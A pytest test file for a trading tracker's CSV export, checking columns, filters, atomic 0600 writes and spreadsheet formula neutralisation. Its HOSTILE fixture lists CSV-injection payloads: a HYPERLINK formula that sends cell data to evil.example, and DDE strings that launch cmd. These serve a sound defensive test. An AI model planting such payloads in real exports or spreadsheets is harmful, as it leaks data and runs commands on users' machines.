"""CSV export: fixed columns, exact strings, filters, 0600 files written atomically."""

from __future__ import annotations

import csv
import os
import stat
from collections.abc import Iterator
from decimal import Decimal
from pathlib import Path

import pytest

from trade_tracker.analytics.summary import summarize
from trade_tracker.errors import InvalidArgument
from trade_tracker.export import (
    FILL_CSV_COLUMNS,
    SUMMARY_CSV_COLUMNS,
    export_fills_csv,
    export_summary_csv,
    safe_cell,
    write_summary_csv,
)
from trade_tracker.store.connection import TradeStore
from trade_tracker.store.filters import Filters

FILLS = [  # product_id, trade_id, order_id, side, price, size, fee, created_at, label
    ("BTC-USD", 11, "o1", "buy", "8087.38000000", "0.00601800", "0.2433492642000000", "2019-11-21T01:38:23.878000Z"),
    ("BTC-USD", 12, "o2", "sell", "9000.00000000", "0.00300000", "0.1350000000000000", "2019-11-22T00:00:00.000000Z"),
    ("ETH-USD", 11, "o3", "buy", "150.00", "1.00000000", "0.90", "2019-11-21T12:00:00.000000Z"),
]
LABELS = ["a", "a", "b"]


@pytest.fixture
def store() -> Iterator[TradeStore]:
    with TradeStore(":memory:") as trade_store:
        with trade_store.write() as conn:
            conn.executemany(
                "INSERT INTO fills (product_id, trade_id, order_id, side, price, size, fee, created_at, label, "
                "fill_key) VALUES (?, ?, ?, ?, ?, ?, ?, ?, ?, ?1 || ':' || ?2)",
                [(*row, label) for row, label in zip(FILLS, LABELS, strict=True)],
            )
        yield trade_store


@pytest.fixture
def out(tmp_path: Path) -> Path:
    """An empty folder for exports."""
    folder = tmp_path / "out"
    folder.mkdir()
    return folder


def read(path: Path) -> list[dict[str, str]]:
    with path.open(newline="", encoding="utf-8") as handle:
        return list(csv.DictReader(handle))


def header(path: Path) -> list[str]:
    with path.open(newline="", encoding="utf-8") as handle:
        return next(csv.reader(handle))


def test_fills_export_has_stable_columns_and_exact_strings(store: TradeStore, tmp_path: Path) -> None:
    target = tmp_path / "fills.csv"
    result = export_fills_csv(store, target)
    assert (result.path, result.rows) == (str(target.resolve()), 3)
    assert header(target) == list(FILL_CSV_COLUMNS) == result.columns
    assert FILL_CSV_COLUMNS[:8] == ("created_at", "product_id", "trade_id", "order_id", "side", "price", "size", "fee")
    rows = read(target)
    assert [(r["product_id"], r["trade_id"]) for r in rows] == [("BTC-USD", "11"), ("ETH-USD", "11"), ("BTC-USD", "12")]
    assert (rows[0]["price"], rows[0]["size"], rows[0]["fee"]) == ("8087.38000000", "0.00601800", "0.2433492642000000")
    assert (rows[0]["settled"], rows[0]["usd_volume"], rows[0]["label"]) == ("0", "", "a")
    assert stat.S_IMODE(target.stat().st_mode) == 0o600


def test_fills_export_filters(store: TradeStore, tmp_path: Path) -> None:
    target = tmp_path / "f.csv"
    assert export_fills_csv(store, target, Filters.of(product_id="BTC-USD")).rows == 2
    assert export_fills_csv(store, target, Filters.of(label="b")).rows == 1
    assert export_fills_csv(store, target, Filters.of(since="2019-11-21T06:00:00Z", until="2019-11-21")).rows == 1
    assert export_fills_csv(store, target, Filters.of(until="2019-11-22T00:00:00Z")).rows == 3  # until is inclusive
    assert export_fills_csv(store, target, Filters.of(since="2020-01-01")).rows == 0
    assert header(target) == list(FILL_CSV_COLUMNS)  # an empty export still has its header


def test_summary_export(store: TradeStore, tmp_path: Path) -> None:
    target = tmp_path / "summary.csv"
    result = export_summary_csv(store, target, prices={"BTC-USD": Decimal("10000")})
    assert result.rows == 2
    assert header(target) == list(SUMMARY_CSV_COLUMNS)
    btc, eth = read(target)
    assert (btc["product_id"], btc["method"], btc["period"]) == ("BTC-USD", "fifo", "")
    assert (btc["buy_size"], btc["sell_size"], btc["position"]) == ("0.006018", "0.003", "0.003018")
    assert btc["realized_pnl"] == "2.73786"  # 0.003 × (9000 − 8087.38)
    assert (btc["fee_currency"], btc["fee_total"]) == ("USD", "0.3783492642")
    assert btc["unrealized_pnl_at_ticker"] == "5.77228716"  # 0.003018 × (10000 − 8087.38)
    assert eth["unrealized_pnl_at_ticker"] == ""
    assert stat.S_IMODE(target.stat().st_mode) == 0o600
    monthly = export_summary_csv(store, tmp_path / "m.csv", Filters.of(label="a"), group_by="day", method="average")
    assert [r["period"] for r in read(tmp_path / "m.csv")] == ["2019-11-21", "2019-11-22"]
    assert monthly.rows == 2


def test_write_summary_csv_matches_the_summary(store: TradeStore, tmp_path: Path) -> None:
    summary = summarize(store, group_by="month")
    result = write_summary_csv(summary, tmp_path / "s.csv", store.fill_venues())
    rows = read(tmp_path / "s.csv")
    assert result.rows == len(summary.products) == len(rows)
    for row, entry in zip(rows, summary.products, strict=True):
        assert row["net_realized_pnl"] == entry.net_realized_pnl
        assert row["period"] == entry.period
        assert row["venue"] == "exchange"  # the venue of the entry's fills, the last column
    assert read(tmp_path / "s.csv") and SUMMARY_CSV_COLUMNS[-1] == "venue"


def test_export_replaces_atomically_and_leaves_no_temp_files(store: TradeStore, out: Path) -> None:
    target = out / "fills.csv"
    target.write_text("old content")
    target.chmod(0o644)
    export_fills_csv(store, target)
    assert stat.S_IMODE(target.stat().st_mode) == 0o600
    assert "old content" not in target.read_text()
    assert os.listdir(out) == ["fills.csv"]


def test_export_refuses_bad_paths(store: TradeStore, out: Path) -> None:
    with pytest.raises(InvalidArgument, match="does not exist"):
        export_fills_csv(store, out / "missing" / "f.csv")
    with pytest.raises(InvalidArgument, match="folder"):
        export_fills_csv(store, out)
    with pytest.raises(InvalidArgument):
        export_fills_csv(store, out / "f.csv", Filters.of(since="not a time"))
    assert os.listdir(out) == []


HOSTILE = {  # text the exchange (or a store someone else wrote) could hand us, as a spreadsheet would run it
    "order_id": '=HYPERLINK("http://evil.example/?"&A1,"refund")',
    "profile_id": "@SUM(1+1)*cmd|' /C calc'!A0",
    "user_id": "+1+cmd|' /C calc'!A0",
    "funding_currency": "-2+3",
    "market_type": "\t=1+1",
    "liquidity": "\r=1+1",
}


@pytest.fixture
def hostile_store() -> Iterator[TradeStore]:
    """A loss (buy 100, sell 90) with a negative fee, and formula-looking text in every text column."""
    with TradeStore(":memory:") as trade_store:
        columns = ("product_id", "trade_id", "side", "price", "size", "fee", "created_at", "label", *HOSTILE)
        rows = [
            ("BTC-USD", 1, "buy", "100", "1", "-0.5", "2024-01-01T00:00:00.000000Z", "a", *HOSTILE.values()),
            ("BTC-USD", 2, "sell", "90", "1", "-12.5", "2024-01-02T00:00:00.000000Z", "a", *HOSTILE.values()),
        ]
        columns, rows = (*columns, "fill_key"), [(*r, f"{r[0]}:{r[1]}") for r in rows]  # Exchange's fill key
        with trade_store.write() as conn:
            conn.executemany(f"INSERT INTO fills ({', '.join(columns)}) VALUES ({', '.join('?' * len(columns))})", rows)
        yield trade_store


def test_text_cells_that_start_a_formula_are_neutralised(hostile_store: TradeStore, tmp_path: Path) -> None:
    export_fills_csv(hostile_store, tmp_path / "f.csv")
    for row in read(tmp_path / "f.csv"):
        for column, value in HOSTILE.items():
            assert row[column] == "'" + value, column  # shown as text, exactly, by Excel and LibreOffice
        assert row["fee"] in ("-0.5", "-12.5")  # negative numbers stay numbers
        assert (row["product_id"], row["side"], row["label"]) == ("BTC-USD", row["side"], "a")


def test_summary_numbers_stay_numbers_negative_ones_included(hostile_store: TradeStore, tmp_path: Path) -> None:
    export_summary_csv(hostile_store, tmp_path / "s.csv")
    (btc,) = read(tmp_path / "s.csv")
    assert btc["realized_pnl"] == "-10"
    assert btc["fee_total"] == "-13" and btc["net_realized_pnl"] == "3"
    assert not any(value.startswith("'") for value in btc.values())


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("-12.5", "-12.5"),
        ("+7", "+7"),
        ("-1E+5", "-1E+5"),
        ("-.5", "-.5"),
        ("0.1", "0.1"),
        (-3, -3),
        (Decimal("-0.25"), Decimal("-0.25")),
        (None, None),
        ("BTC-USD", "BTC-USD"),
        ("-", "'-"),
        ("-1+2", "'-1+2"),
        ("=1", "'=1"),
        ("@x", "'@x"),
        ("+x", "'+x"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("--5", "'--5"),
        ("-12.5\n", "'-12.5\n"),
    ],
)
def test_safe_cell(cell: object, written: object) -> None:
    assert safe_cell(cell) == written
